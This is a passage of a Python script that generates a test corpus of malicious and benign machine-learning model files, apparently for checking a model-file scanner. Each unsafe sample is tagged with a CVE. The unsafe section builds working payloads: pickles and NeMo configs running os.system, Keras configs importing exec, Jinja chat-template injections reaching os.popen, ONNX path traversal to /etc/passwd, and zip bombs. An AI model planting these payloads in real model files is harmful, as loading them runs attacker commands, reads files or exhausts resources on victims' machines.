    hdr = bytearray(512)
    hdr[0:len(p0)] = p0
    hdr[100:108] = b"0000644\x00"
    hdr[108:116] = hdr[116:124] = b"0000000\x00"
    hdr[124:136] = b"00000000000\x00"
    hdr[136:148] = b"14740000000\x00"
    hdr[156:157] = b"0"
    hdr[257:263] = b"ustar\x00"
    hdr[263:265] = b"00"
    hdr[148:156] = b" " * 8
    hdr[148:156] = (b"%06o" % sum(hdr)) + b"\x00 "
    put("tar/polyglot_tar_pickle.tar", bytes(hdr) + b"\x00" * 1024, "empty tar whose first header is a complete pickle (pickle.load runs it)", "issue 12 item 1 (polyglots)")
    put("tar/pickle_in_tgz.tar.gz", gzip.compress(tar_bytes([("model.pkl", evil, {})])), "pickle inside a gzip'd tar", "nullifAI class (compressed wrapping)")
    put("tar/nemo_pickle.nemo", tar_bytes([("model_config.yaml", b"name: m\n", {}), ("model_weights.ckpt", torch_zip(evil), {})]),
        "NeMo archive whose weights checkpoint runs os.system", "CVE-2025-23304 class (NeMo); JFrog Xray .nemo")
    put("tar/nemo_hydra_target.nemo", tar_bytes([("model_config.yaml", b"model:\n  _target_: os.system\n  command: " + CMD.encode() + b"\n", {}),
                                                 ("model_weights.ckpt", torch_zip(pkl(EMPTY_DICT, 2)), {})]),
        "NeMo model_config.yaml with a Hydra _target_ of os.system", "CVE-2025-23304 (NeMo)")

    # -- compression wrappers ---------------------------------------------------------------------
    put("compressed/model.pkl.gz", gzip.compress(evil), "gzip-compressed pickle", "CVE-2025-1889 class")
    put("compressed/model.joblib", bz2.compress(evil), "bz2-compressed pickle named .joblib (joblib decompresses by magic)", "CVE-2024-34997 class (joblib)")
    put("compressed/model.pkl.xz", lzma.compress(evil), "xz-compressed pickle", "CVE-2025-1889 class")
    put("compressed/xz_renamed.bin", lzma.compress(evil), "xz-compressed pickle named .bin", "CVE-2025-10155 class")

    # -- numpy / joblib object arrays -------------------------------------------------------------
    for rel, descr, ver, tech in [("npy/object_O.npy", "|O", 1, "'|O'"), ("npy/object_word.npy", "object", 1, "'object'"), ("npy/object_O8.npy", "O8", 1, "'O8'"),
                                  ("npy/comma_i4_O.npy", "i4,O", 1, "comma string 'i4,O'"),
                                  ("npy/structured_nested.npy", "[('a', '<i4'), ('b', [('c', '|O')])]", 1, "structured dtype with a nested object field"),
                                  ("npy/object_v2.npy", "|O", 2, "'|O' in a v2 header"), ("npy/object_v3.npy", "|O", 3, "'|O' in a v3 (utf-8) header")]:
        put(rel, npy(descr, (1,), os_system(proto=3), version=ver), f"npy object array ({tech}); np.load(allow_pickle=True) unpickles the data", "CVE-2019-6446 (numpy); issue 12 item 2")
    put("npy/arrays.npz", zip_bytes([("a.npy", npy("<f4", (1,), b"\x00" * 4)), ("b.npy", npy("|O", (1,), os_system(proto=3)))]),
        "npz whose second member is an object array", "CVE-2019-6446")
    put("npy/numpy_load_in_pickle.pkl", pkl(call("numpy", "load", U("/tmp/x.npy"), NEWTRUE), 2), "numpy.load(path, allow_pickle=True) called from a pickle", "CVE-2019-6446 class")
    put("joblib/object_wrapper.joblib", joblib_wrapper(np_dtype("O8"), os_system()), "joblib NumpyArrayWrapper with dtype('O8'): joblib pickle.loads the inline payload",
        "CVE-2024-34997 (joblib NumpyArrayWrapper); issue 12 item 2")
    put("joblib/object_wrapper_short_state.joblib", joblib_wrapper(G("numpy", "dtype") + MARK + U("O") + NEWFALSE + NEWTRUE + TUPLE + REDUCE, os_system()),
        "joblib wrapper, dtype('O') with no BUILD state", "CVE-2024-34997; issue 12 item 2")
    put("joblib/payload_after_buffer.joblib", joblib_wrapper(np_dtype("f8"), b"\x03\xff\xff\xff" + b"\x00" * 8 + POP + call("os", "system", U(CMD)) + STOP),
        "joblib float array, then os.system after the raw buffer", "CVE-2024-34997 class")

    # -- Keras ------------------------------------------------------------------------------------
    dense = lambda **kw: {"module": "keras.layers", "class_name": "Dense", "config": {"name": "dense", "units": 2, **kw}, "registered_name": None}  # noqa: E731
    put("keras/module_builtins.keras", keras_zip(keras_model([{"module": "builtins", "class_name": "exec", "config": {"name": "x"}, "registered_name": None}])),
        "config.json layer with module 'builtins' (any importable callable is instantiated)", "CVE-2025-1550 (Keras < 3.9)")
    put("keras/module_os.keras", keras_zip(keras_model([{**dense(), "module": "os"}])), "Dense layer whose module is 'os'", "CVE-2025-1550")
    put("keras/get_file_gadget.keras", keras_zip(keras_model([{"module": "keras.utils", "class_name": "get_file", "config": {"fname": "x.py", "origin": "http://127.0.0.1:9/x.py", "cache_dir": "/tmp"}, "registered_name": None}])),
        "keras.utils.get_file as a layer: downloads during load", "CVE-2025-8747 (Keras < 3.11)")
    put("keras/enable_unsafe.keras", keras_zip(keras_model([{"module": "keras.config", "class_name": "enable_unsafe_deserialization", "config": {}, "registered_name": None},
                                                            {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAA", "defaults": None, "closure": None}}}, "registered_name": None}])),
        "config calls keras.config.enable_unsafe_deserialization, then a Lambda", "CVE-2025-9906 (Keras < 3.11)")
    put("keras/torch_module_wrapper.keras", keras_zip(keras_model([{"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {"name": "t", "module": base64.b64encode(torch_zip(evil)).decode()}, "registered_name": None}])),
        "TorchModuleWrapper: from_config torch.load()s its module bytes", "CVE-2025-49655 (Keras 3.11.0–3.11.2)")
    put("keras/lambda_marshal.keras", keras_zip(keras_model([{"module": "keras.layers", "class_name": "Lambda", "config": {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": base64.b64encode(marshal.dumps(compile("None", "x", "eval"))).decode(), "defaults": None, "closure": None}}}, "registered_name": None}])),
        "Lambda layer with marshalled bytecode (runs with safe_mode=False)", "CVE-2024-3660 (Keras Lambda)")
    put("keras/stringlookup_path.keras", keras_zip(keras_model([{"module": "keras.layers", "class_name": "StringLookup", "config": {"name": "s", "vocabulary": "/etc/passwd"}, "registered_name": None}])),
        "StringLookup whose vocabulary is a local path (file read/SSRF under safe_mode)", "CVE-2025-12058 / GHSA-qg93-c7p6-gg7f (Keras)")
    put("keras/tfsmlayer.keras", keras_zip(keras_model([{"module": "keras.layers", "class_name": "TFSMLayer", "config": {"name": "t", "filepath": "/tmp/evil_savedmodel", "call_endpoint": "serve"}, "registered_name": None}])),
        "TFSMLayer loads an external SavedModel (its ops) during load", "issue 12 item 5; CVE-2025-8747 class")
    try:
        import h5py

        p = u / "keras" / "lambda.h5"
        with h5py.File(p, "w") as f:
            f.attrs["keras_version"] = "3.8.0"
            f.attrs["backend"] = "tensorflow"
            f.attrs["model_config"] = json.dumps({"class_name": "Sequential", "config": {"name": "s", "layers": [
                {"class_name": "Lambda", "config": {"name": "l", "function": [marshal.dumps(compile("None", "x", "eval")).hex(), None, None], "function_type": "lambda"}}]}})
        samples.append(Sample("unsafe/keras/lambda.h5", "unsafe", "legacy HDF5 model with a Lambda layer: safe_mode is ignored for .h5", "CVE-2025-9905 (Keras < 3.11.3)"))
    except ImportError:
        pass

    # -- ONNX -------------------------------------------------------------------------------------
    put("onnx/external_traversal.onnx", onnx_external("../../../../etc/passwd"), "initializer external_data location '../../../../etc/passwd'", "CVE-2022-25882 (onnx)")
    put("onnx/external_nested.onnx", onnx_external("subdir/../../../etc/passwd"), "nested traversal 'subdir/../../../etc/passwd'", "CVE-2024-27318 (onnx)")
    put("onnx/external_absolute.onnx", onnx_external("/etc/passwd"), "absolute external_data location", "CVE-2022-25882 class")
    put("onnx/external_in_attribute.onnx", onnx_external("../../etc/passwd", where="attribute"), "external data in a Constant node's tensor attribute", "CVE-2024-27318 class; issue 12 item 6")

    # -- chat templates ---------------------------------------------------------------------------
    ssti = "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('" + CMD + "').read() }}"
    cycler = "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{ x()._module.__builtins__['__import__']('os').popen('" + CMD + "') }}{% endif %}{% endfor %}"
    fmt = "{% set u = '%c%c'|format(95,95) %}{{ (lipsum|attr(u ~ 'globals' ~ u))[u ~ 'builtins' ~ u][u ~ 'import' ~ u]('os').popen('" + CMD + "').read() }}"
    joined = "{% set g = ['_','_','globals','_','_']|join %}{{ cycler.__init__|attr(g) }}"
    put("gguf/ssti_subclasses.gguf", gguf({"general.architecture": "llama", "tokenizer.chat_template": cycler}),
        "GGUF tokenizer.chat_template walking __subclasses__ to __import__", "CVE-2024-34359 (llama-cpp-python); CVE-2026-5760 (SGLang)")
    put("gguf/ssti_format_dunder.gguf", gguf({"general.architecture": "llama", "tokenizer.chat_template": fmt}),
        "dunders built at run time with '%c%c'|format(95,95) and ~, reached with |attr", "CVE-2024-34359 class; issue 12 item 4")
    put("gguf/ssti_join.gguf", gguf({"general.architecture": "llama", "tokenizer.chat_template.tool_use": joined}),
        "named template tokenizer.chat_template.tool_use; dunder built with |join", "CVE-2024-34359 class; issue 12 item 4")
    put("hf/tokenizer_config.json", json.dumps({"tokenizer_class": "LlamaTokenizer", "chat_template": ssti}).encode(),
        "tokenizer_config.json chat_template with __globals__ → __import__", "CVE-2024-34359 class (transformers/vLLM render it)")
    put("hf/list_template/tokenizer_config.json", json.dumps({"chat_template": [{"name": "default", "template": "hi"}, {"name": "rag", "template": ssti}]}).encode(),
        "chat_template as a list of named templates, the second malicious", "CVE-2024-34359 class; issue 12 item 4")
    put("hf/chat_template.jinja", ("{# '}}' in a comment #}{{ '}}' }}" + ssti).encode(), "chat_template.jinja file beside a model, string literal containing '}}' first",
        "CVE-2024-34359 class; issue 12 item 4")

    # -- nesting budgets (denial of service) --------------------------------------------------------
    layer = zip_bytes([("x.bin", b"\x00" * 1024)], zipfile.ZIP_DEFLATED)
    for i in range(40):
        layer = zip_bytes([(f"n{i}.zip", layer)], zipfile.ZIP_DEFLATED)
    put("dos/deep_nest.zip", layer, "40-level nest of zips (42.zip style)", "CWE-409 (zip bomb); issue 12 item 9")
    leaf = zip_bytes([(f"m{j}.pkl", pkl(EMPTY_DICT, 2)) for j in range(16)], zipfile.ZIP_DEFLATED)
    for lvl in range(3):
        leaf = zip_bytes([(f"l{lvl}_{j}.zip", leaf) for j in range(16)], zipfile.ZIP_DEFLATED)
    put("dos/fanout_16x4.zip", leaf, "16⁴ fan-out of nested zips (65,536 leaves)", "CWE-409; issue 12 item 9")
    put("dos/gzip_bomb.pkl.gz", gzip.compress(PROTO(2) + b"(" + b"N" * (64 << 20) + b"l" + STOP, 9), "gzip'd pickle expanding to 64 MB", "CWE-409")
    return samples


# ---- the BENIGN corpus ---------------------------------------------------------------------------
SHARED_PROFILES = {
    "sklearn_logreg.joblib": ["numpy", "sklearn"], "sklearn_logreg.pkl": ["numpy", "sklearn"],
    "torch_full_module_NOT_weights_only.pt": None,  # pickles an nn.Module: expected to block
}


def _writers(b: Path) -> list[tuple[str, list[str], str, Callable[[], list[str]]]]:
    """(name, profiles, technique, writer) — each writer returns the files it wrote (relative)."""

    def torch_files() -> list[str]:
        import torch
        import torch.nn as nn

        torch.manual_seed(0)
        m = nn.Sequential(nn.Linear(8, 4), nn.ReLU(), nn.Linear(4, 2))
        torch.save(m.state_dict(), b / "torch_state_dict.pt")
        torch.save(m.to(torch.bfloat16).state_dict(), b / "torch_bf16.pt")
        import numpy as np

        torch.save({"arr": np.arange(6, dtype=np.float32).reshape(2, 3), "i": np.int64(3)}, b / "torch_numpy_arrays.pt")
        torch.save({"sp": torch.eye(4).to_sparse(), "csr": torch.eye(3).to_sparse_csr()}, b / "torch_sparse.pt")
        torch.save({"q": torch.quantize_per_tensor(torch.rand(4), 0.1, 10, torch.qint8)}, b / "torch_qint8.pt")
        opt = torch.optim.AdamW(m.parameters())
        m.float()(torch.randn(2, 8)).sum().backward()
        opt.step()
        torch.save({"model": m.state_dict(), "optimizer": opt.state_dict(), "epoch": 3}, b / "torch_checkpoint_adamw.pth")
        (b / "torch_tensor_pickle.pkl").write_bytes(__import__("pickle").dumps(torch.arange(4.0)))
        torch.save(m.state_dict(), b / "torch_legacy_format.pt", _use_new_zipfile_serialization=False)
        return ["torch_state_dict.pt", "torch_bf16.pt", "torch_numpy_arrays.pt", "torch_sparse.pt", "torch_qint8.pt",
                "torch_checkpoint_adamw.pth", "torch_tensor_pickle.pkl", "torch_legacy_format.pt"]

    def transformers_files() -> list[str]:
        import torch
        from transformers import BertConfig, BertModel, Trainer, TrainingArguments

        cfg = BertConfig(vocab_size=64, hidden_size=16, num_hidden_layers=1, num_attention_heads=2, intermediate_size=32, max_position_embeddings=32)
        model = BertModel(cfg)
        model.save_pretrained(b / "hf_bert_safetensors")
        model.save_pretrained(b / "hf_bert_bin", safe_serialization=False)
        torch.save(model.state_dict(), b / "hf_bert_bin" / "pytorch_model.bin")  # what transformers < 4.35 wrote by default

        class DS(torch.utils.data.Dataset):
            def __len__(self) -> int:
                return 4

            def __getitem__(self, i: int) -> dict:
                return {"input_ids": torch.tensor([1, 2, 3, 4]), "labels": torch.tensor(0)}

        from transformers import BertForSequenceClassification

        clf = BertForSequenceClassification(cfg)
        args = TrainingArguments(output_dir=str(b / "hf_trainer"), max_steps=1, save_steps=1, per_device_train_batch_size=2, report_to=[], use_cpu=True,
                                 logging_strategy="no")
        Trainer(model=clf, args=args, train_dataset=DS()).train()
        out = []
        for p in sorted((b / "hf_bert_safetensors").rglob("*")) + sorted((b / "hf_bert_bin").rglob("*")) + sorted((b / "hf_trainer").rglob("*")):
            if p.is_file():
                out.append(str(p.relative_to(b)))
        return out

    def sklearn_files() -> list[str]:
        import joblib
        import numpy as np
        from sklearn.ensemble import RandomForestClassifier
        from sklearn.pipeline import make_pipeline
        from sklearn.preprocessing import StandardScaler

        X = np.random.RandomState(0).rand(40, 4)
        y = (X[:, 0] > 0.5).astype(int)
        pipe = make_pipeline(StandardScaler(), RandomForestClassifier(n_estimators=3, random_state=0)).fit(X, y)
        joblib.dump(pipe, b / "sklearn_pipeline_rf.joblib")
        joblib.dump(pipe, b / "sklearn_pipeline_rf_compressed.joblib", compress=3)
        import pickle

        (b / "sklearn_pipeline_rf.pkl").write_bytes(pickle.dumps(pipe, protocol=5))
        return ["sklearn_pipeline_rf.joblib", "sklearn_pipeline_rf_compressed.joblib", "sklearn_pipeline_rf.pkl"]

    def xgb_files() -> list[str]:
        import joblib
        import numpy as np
        import xgboost as xgb

        X = np.random.RandomState(0).rand(40, 4)
        y = (X[:, 0] > 0.5).astype(int)
        clf = xgb.XGBClassifier(n_estimators=3, max_depth=2).fit(X, y)
        clf.save_model(b / "xgb_model.json")
        clf.save_model(b / "xgb_model.ubj")
        joblib.dump(clf, b / "xgb_classifier.joblib")
        return ["xgb_model.json", "xgb_model.ubj", "xgb_classifier.joblib"]

    def lgb_files() -> list[str]:
        import joblib
        import lightgbm as lgb
        import numpy as np

        X = np.random.RandomState(0).rand(60, 4)
        y = (X[:, 0] > 0.5).astype(int)
        clf = lgb.LGBMClassifier(n_estimators=3, verbose=-1).fit(X, y)
        clf.booster_.save_model(str(b / "lgbm_model.txt"))
        joblib.dump(clf, b / "lgbm_classifier.joblib")
        return ["lgbm_model.txt", "lgbm_classifier.joblib"]

    def lightning_files() -> list[str]:
        import argparse

        import lightning as L
        import torch

        class M(L.LightningModule):
            def __init__(self, hparams_ns: argparse.Namespace, lr: float = 0.01) -> None:
                super().__init__()
                self.save_hyperparameters()
                self.layer = torch.nn.Linear(4, 1)

            def training_step(self, batch, i):  # type: ignore[no-untyped-def]
                return self.layer(batch[0]).sum()

            def configure_optimizers(self):  # type: ignore[no-untyped-def]
                return torch.optim.SGD(self.parameters(), lr=0.01)

        ds = torch.utils.data.TensorDataset(torch.randn(8, 4))
        trainer = L.Trainer(max_steps=1, default_root_dir=str(b / "lightning"), enable_progress_bar=False, logger=False, enable_model_summary=False,
                            accelerator="cpu", enable_checkpointing=False)
        trainer.fit(M(argparse.Namespace(depth=2, name="x")), torch.utils.data.DataLoader(ds, batch_size=4))
        trainer.save_checkpoint(b / "lightning_checkpoint.ckpt")
        return ["lightning_checkpoint.ckpt"]

    def keras_files() -> list[str]:
        os.environ.setdefault("KERAS_BACKEND", "torch")
        import keras

        m = keras.Sequential([keras.Input((4,)), keras.layers.Dense(3, activation="relu"), keras.layers.Dense(1)])
        m.save(b / "keras3_sequential.keras")
        m.save(b / "keras3_sequential.h5")
        m.save_weights(b / "keras3.weights.h5")
        return ["keras3_sequential.keras", "keras3_sequential.h5", "keras3.weights.h5"]

    def onnx_files() -> list[str]:
        import numpy as np
        import onnx
        from onnx import TensorProto, helper, numpy_helper

        w = numpy_helper.from_array(np.ones((4, 4), dtype=np.float32), "w")
        g = helper.make_graph([helper.make_node("MatMul", ["x", "w"], ["y"])], "g", [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])],
                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 4])], [w])
        model = helper.make_model(g, opset_imports=[helper.make_opsetid("", 17)])
        onnx.save(model, b / "onnx_matmul.onnx")
        (b / "onnx_ext").mkdir(exist_ok=True)
        onnx.save(model, b / "onnx_ext" / "model.onnx", save_as_external_data=True, all_tensors_to_one_file=True, location="weights.bin", size_threshold=0)
        return ["onnx_matmul.onnx", "onnx_ext/model.onnx", "onnx_ext/weights.bin"]

    def gguf_files() -> list[str]:
        import gguf as G_
        import numpy as np

        w = G_.GGUFWriter(str(b / "gguf_llama_template.gguf"), "llama")
        w.add_chat_template("{% for m in messages %}<|{{ m['role'] }}|>{{ m['content'] }}{% endfor %}{% if add_generation_prompt %}<|assistant|>{% endif %}")
        w.add_tensor("w", np.ones((4, 4), dtype=np.float32))
        w.write_header_to_file()
        w.write_kv_data_to_file()
        w.write_tensors_to_file()
        w.close()
        return ["gguf_llama_template.gguf"]

    def numpy_files() -> list[str]:
        import numpy as np

        np.save(b / "np_int64.npy", np.arange(10))
        np.save(b / "np_structured.npy", np.zeros(3, dtype=[("a", "<i4"), ("b", "<f8", (2,))]))
        np.savez_compressed(b / "np_compressed.npz", a=np.ones(3), b=np.zeros((2, 2)))
        import safetensors.numpy as st

        st.save_file({"a": np.ones((2, 2), dtype=np.float32)}, str(b / "numpy.safetensors"), metadata={"format": "np"})
        return ["np_int64.npy", "np_structured.npy", "np_compressed.npz", "numpy.safetensors"]

    return [
        ("torch", ["torch", "numpy"], "torch.save (state dict, bf16, numpy arrays, sparse, qint8, AdamW checkpoint, pickle.dumps(tensor), legacy format)", torch_files),
        ("transformers", ["torch", "numpy", "transformers"], "transformers save_pretrained (safetensors and .bin) and a Trainer checkpoint", transformers_files),
        ("sklearn", ["numpy", "sklearn"], "scikit-learn pipeline via joblib.dump / pickle", sklearn_files),
        ("xgboost", ["numpy", "sklearn", "xgboost"], "xgboost save_model (JSON/UBJSON) and joblib.dump(XGBClassifier)", xgb_files),
        ("lightgbm", ["numpy", "sklearn", "lightgbm"], "lightgbm text model and joblib.dump(LGBMClassifier)", lgb_files),
        ("lightning", ["torch", "numpy", "lightning"], "Lightning Trainer.save_checkpoint with argparse.Namespace hparams", lightning_files),
        ("keras", ["numpy"], "Keras 3 .keras / .h5 / .weights.h5", keras_files),
        ("onnx", ["numpy"], "onnx.save (inline and external data)", onnx_files),
        ("gguf", ["numpy"], "gguf.GGUFWriter with a harmless chat template", gguf_files),
        ("numpy", ["numpy"], "np.save / np.savez_compressed / safetensors.numpy", numpy_files),
    ]


def build_benign(root: Path) -> tuple[list[Sample], list[str]]:
    b = root / "benign"
    b.mkdir(parents=True, exist_ok=True)
    samples: list[Sample] = []
    skipped: list[str] = []
    if SHARED_BENIGN.is_dir():
        for p in sorted(SHARED_BENIGN.iterdir()):
            prof = SHARED_PROFILES.get(p.name, ["torch", "numpy"])
            if prof is None:
                skipped.append(f"shared/{p.name}: expected to block (pickles an nn.Module)")
                continue
            shutil.copy2(p, b / f"shared_{p.name}")
            samples.append(Sample(f"benign/shared_{p.name}", "benign", "shared/testdata/models-benign (real library output)", profiles=prof))
    else:
        skipped.append(f"{SHARED_BENIGN}: not found")
    for name, prof, tech, writer in _writers(b):
        try:
            files = writer()
        except Exception as exc:  # a library missing or failing: say so, keep going
            skipped.append(f"{name}: {type(exc).__name__}: {str(exc)[:160]}")
            continue
        for rel in files:
            samples.append(Sample(f"benign/{rel}", "benign", tech, profiles=prof))
    return samples, skipped


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("out", type=Path)
    g = ap.add_mutually_exclusive_group()
    g.add_argument("--unsafe-only", action="store_true")
    g.add_argument("--benign-only", action="store_true")
    args = ap.parse_args(argv)
    args.out.mkdir(parents=True, exist_ok=True)
    samples: list[Sample] = []
    skipped: list[str] = []
    if not args.benign_only:
        samples += build_unsafe(args.out)
    if not args.unsafe_only:
        s, skipped = build_benign(args.out)
        samples += s
    manifest = {"samples": [dataclasses.asdict(s) for s in samples], "skipped": skipped, "python": sys.version.split()[0]}
    (args.out / "manifest.json").write_text(json.dumps(manifest, indent=1))
    n_u = sum(s.kind == "unsafe" for s in samples)
    print(f"{n_u} unsafe, {len(samples) - n_u} benign samples in {args.out}; skipped: {len(skipped)}", file=sys.stderr)
    for s in skipped:
        print(f"  skipped {s}", file=sys.stderr)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
